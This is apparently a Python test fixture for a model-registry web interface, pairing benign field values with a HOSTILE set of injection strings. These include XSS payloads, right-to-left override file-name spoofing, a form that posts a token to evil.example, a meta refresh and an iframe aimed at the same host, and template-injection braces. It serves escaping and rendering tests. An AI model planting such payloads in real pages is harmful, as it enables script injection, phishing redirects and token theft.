"""What people and programs write into a node: that of a pleasant day, and that of somebody who wants to break its pages."""
from dataclasses import dataclass

# A script that got through would set this.
MARK = "owned"
LONG = "unbroken" * 110
OVERRIDE = "\u202e"


@dataclass(frozen=True)
class Texts:
    title: str
    description: str
    tag: tuple[str, str]
    notes: str
    reason: str
    note: str
    comment: str
    # Classes of a model, its categories, those that come later, and its columns: a text and two numbers.
    classes: tuple[str, str, str]
    categories: tuple[str, ...]
    unseen: tuple[str, ...]
    columns: tuple[str, str, str]
    # A project and a bundle.
    project: str
    bundle: str
    # What a hook prints.
    output: bytes


FRIENDLY = Texts(
    title="breast-cancer",
    description="Malignant (0) or benign (1)",
    tag=("validated", "yes"),
    notes="weekly retrain, with the data of October",
    reason="the press shows too many false alarms",
    note="the sensor was replaced",
    comment="I looked at the report and at the slices.",
    classes=("keep", "inspect", "stop"),
    categories=("north", "south", "east", "west"),
    unseen=("harbour", "airport"),
    columns=("site", "pressure", "temperature"),
    project="packaging",
    bundle="october",
    output=b"scoring the sample of the line\n200 rows answered, 0 wrong\n",
)

HOSTILE = Texts(
    title=f"<script>window.{MARK}=1<!--{OVERRIDE}",
    description=f"\"><svg onload=window.{MARK}=1> {OVERRIDE}gnp.exe </title></head> {LONG}",
    tag=(f"<img src=x onerror=window.{MARK}=1>", f"' onfocus='window.{MARK}=1' autofocus='{OVERRIDE}"),
    notes=f"</pre></code></textarea><script>window.{MARK}=1</script>\u2066{{{{csrf}}}}{{{{{{name}}}}}}\u200b",
    # A letter that joins what follows it, and a mark that joins what stands before it.
    reason=f"\u0d4e<svg onload=window.{MARK}=1> \"\uff9e onfocus=window.{MARK}=1 <a href=\"javascript:window.{MARK}=1\">click</a> {OVERRIDE}desrever &amp;lt; {LONG}",
    note=f"\"><form action=//evil.example><input name=token {OVERRIDE}>",
    comment=f"<style>body{{display:none}}</style><meta http-equiv=refresh content=\"0;url=//evil.example\"> window.{MARK}",
    classes=("<b>good</b>", f"\"><svg onload=window.{MARK}=1>", "\u0637\u064a\u0628"),
    categories=(
        f"<script>window.{MARK}=1</script>", f"' onmouseover='window.{MARK}=1", f"Os{OVERRIDE}lo", "</td></tr></table>", "{{csrf}}{{{name}}}",
        "a&b;c,d\"e", "z" * 300,
    ),
    unseen=(f"<iframe src=//evil.example></iframe>{OVERRIDE}", f"]]><script>window.{MARK}=1</script>", "new" * 200),
    columns=(f"<i>site</i>{OVERRIDE}", "size \"cm\" </script>", "weight & <!-- kg"),
    project="p" + "x" * 79,
    bundle="b" + "y" * 79,
    output=(
        f"\x1b[31m<script>window.{MARK}=1</script>\x1b[0m\r\x07 {OVERRIDE}txt.exe \u2067isolated\u2069\n</pre><svg onload=window.{MARK}=1>\n".encode()
        + b"\x00\x01\xff\xfe\x80 not UTF-8 \xc3\x28\n" + b"long " + b"w" * 40_000 + b"\n" + bytes(range(256)) + b"\n<!--"
    ),
)
